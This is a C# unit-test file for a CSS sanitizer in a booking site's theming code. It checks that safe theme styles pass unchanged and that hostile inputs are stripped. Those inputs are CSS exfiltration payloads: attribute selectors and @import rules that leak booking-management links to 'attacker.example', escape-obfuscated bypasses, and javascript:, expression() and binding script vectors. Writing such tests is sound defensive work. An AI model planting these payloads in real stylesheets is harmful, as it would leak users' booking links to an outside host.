using ManageBooking.Theming;

namespace ManageBooking.Tests.Theming;

/// <summary>Extra CSS cannot reach another host or run code, however it is spelt; what a theme needs stays.</summary>
public sealed class CssSanitizerTests
{
    private static readonly Uri Site = new("https://bookings.example.test/");

    [Theory]
    [InlineData("a[href^=\"/booking/manage/X\"]{background:url(https://attacker.example/X)}")]
    [InlineData("a[href^='/booking/manage/Y']{background-image:url(\"https://attacker.example/Y\")}")]
    [InlineData("@import url(https://attacker.example/a.css);")]
    [InlineData("@import 'https://attacker.example/a.css';")]
    [InlineData("@IMPORT \"//attacker.example/a.css\" screen;")]
    [InlineData("@\\69mport url(https://attacker.example/a.css);")]
    [InlineData("@namespace x url(https://attacker.example/);")]
    [InlineData("a{background:u\\72l(https://attacker.example/x)}")]
    [InlineData("a{background:\\75 \\72 \\6c (https://attacker.example/x)}")]
    [InlineData("a{background:url( //attacker.example/x )}")]
    [InlineData("a{background:url(/\\\\attacker.example/x)}")]
    [InlineData("a{background:url(\\2f\\2f attacker.example/x)}")]
    [InlineData("a{background:url(/\t/attacker.example/x)}")]
    [InlineData("a{background:url(ht\\9tps://attacker.example/x)}")]
    [InlineData("a{background:url(javascript:alert(1))}")]
    [InlineData("a{background:url(data:text/html,<script>alert(1)</script>)}")]
    [InlineData("a{background:image-set(\"https://attacker.example/x\" 1x)}")]
    [InlineData("a{background:-webkit-image-set('https://attacker.example/x' 1x)}")]
    [InlineData("a{background:cross-fade(url(/a.png), url(https://attacker.example/b.png), 50%)}")]
    [InlineData("@font-face{font-family:x;src:url(https://attacker.example/f.woff2)}")]
    [InlineData("@font-face{font-family:x;src:src(\"https://attacker.example/f.woff2\")}")]
    [InlineData("a{width:expression(alert(1))}")]
    [InlineData("a{behavior:url(/x.htc)}")]
    [InlineData("a{behaviour:url(/x.htc)}")]
    [InlineData("a{-moz-binding:url(/x.xml#y)}")]
    [InlineData("@media screen{a[href*=manage]{background:url(https://attacker.example/m)}}")]
    [InlineData("a{background:url(https://bookings.example.test.attacker.example/x)}")]
    public void UnsafeCss_IsRefusedAndRemoved(string css)
    {
        var (safe, problems) = CssSanitizer.Sanitize(css, Site);

        Assert.NotEmpty(problems);
        Assert.Empty(CssSanitizer.Sanitize(safe, Site).Problems);
        Assert.DoesNotContain("attacker", Decode(safe), StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("import", safe, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("expression", safe, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("javascript", safe, StringComparison.OrdinalIgnoreCase);
    }

    [Theory]
    [InlineData(":root{--mb-brand:#7a1f5c;--mb-radius:2px;--mb-font:Georgia, serif}")]
    [InlineData(".mb-site-header{background:url(/images/header.png) no-repeat}")]
    [InlineData(".mb-logo{background:url(\"images/logo.svg\")}")]
    [InlineData(".mb-logo{background:url(data:image/png;base64,iVBORw0KGgo=)}")]
    [InlineData(".mb-logo{background:url(https://bookings.example.test/logo.png)}")]
    [InlineData("@media (prefers-color-scheme: dark){:root{--mb-brand:#f0a}}")]
    [InlineData("@supports (display:grid){.mb-grid{display:grid}}")]
    [InlineData("@keyframes pulse{from{opacity:1}to{opacity:.5}}")]
    [InlineData(".mb-note::before{content:\"url(https://attacker.example/) is only text \\201C\"}")]
    [InlineData("/* @import url(https://attacker.example/) in a comment loads nothing */ a{color:red}")]
    public void ThemeCss_StaysAsItIs(string css)
    {
        var (safe, problems) = CssSanitizer.Sanitize(css, Site);

        Assert.Empty(problems);
        Assert.Equal(css, safe);
    }

    [Fact]
    public void OnlyTheUnsafePart_IsRemoved()
    {
        var (safe, _) = CssSanitizer.Sanitize("@import url(https://attacker.example/a.css);\n.a{color:red;background:url(https://attacker.example/b)}\n.b{margin:0}", Site);

        Assert.Equal("\n.a{color:red;background:none}\n.b{margin:0}", safe);
    }

    /// <summary>The CSS escapes a browser would decode, so a hidden host name is still seen.</summary>
    private static string Decode(string css)
        => System.Text.RegularExpressions.Regex.Replace(css, @"\\([0-9a-fA-F]{1,6})\s?", m => char.ConvertFromUtf32(Convert.ToInt32(m.Groups[1].Value, 16)));
}
